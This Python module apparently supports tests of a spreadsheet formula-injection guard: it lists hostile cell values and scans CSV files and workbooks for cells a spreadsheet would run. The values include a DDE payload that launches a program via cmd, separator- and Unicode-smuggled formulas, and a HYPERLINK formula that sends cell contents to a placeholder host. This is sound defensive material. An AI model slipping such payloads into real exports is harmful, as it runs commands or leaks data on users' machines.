"""Texts that a spreadsheet would run, and a look at files for cells that it would: the rules of spreadsheets,
written down apart from the guard that is judged by them.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator

from openpyxl import load_workbook

DDE = "=cmd|' /C calc'!A0"
STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BLANKS = (" ", "\t", "\r", "\n", "\r\n", "\xa0", "\u3000", "\u200b", "\ufeff", " \t ")
HOSTILE = (
    *(f"{start}1+1" for start in STARTS),
    *(f"{blank}=1+1" for blank in BLANKS),
    DDE,
    f"@SUM(1+1)*{DDE[1:]}",
    '=HYPERLINK("http://example.org?x="&A1,"a")',
    '+1","=2',
    '"=1',
    "'=1",
    "a;=1+1",
    f"a\t{DDE}",
    f'a;{DDE};"',
    "a\n=1+1",
    "a\r\n @x",
    "-",
    "=",
)
"""What people may have written, meaning it or not."""
_NUMBER = re.compile(r"[+-]?[0-9][0-9.,]*([eE][+-]?[0-9]+)?%?", re.ASCII)
_BLANK = "".join({*"".join(BLANKS)})


def runs(cell: str) -> bool:
    """Whether a spreadsheet may take the cell for a formula."""
    inner = cell.lstrip(_BLANK)
    return inner.startswith(STARTS) and not _NUMBER.fullmatch(inner)


def in_csv(data: bytes) -> Iterator[str]:
    """Cells that would run, however the program that opens the file splits it."""
    text = data.decode("utf-8-sig")
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            yield from (f"{cell!r} split at {separator!r}" for cell in row if runs(cell))


def in_workbook(data: bytes, own: frozenset[str] = frozenset()) -> Iterator[str]:
    """Formulas of a workbook, but for those that are its own."""
    for sheet in load_workbook(io.BytesIO(data)):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" and str(cell.value) not in own:
                    yield f"{cell.coordinate} {cell.value!r}"


def formulas_of(data: bytes) -> frozenset[str]:
    """All formulas of a workbook."""
    return frozenset(each.split(" ", 1)[1][1:-1] for each in in_workbook(data))
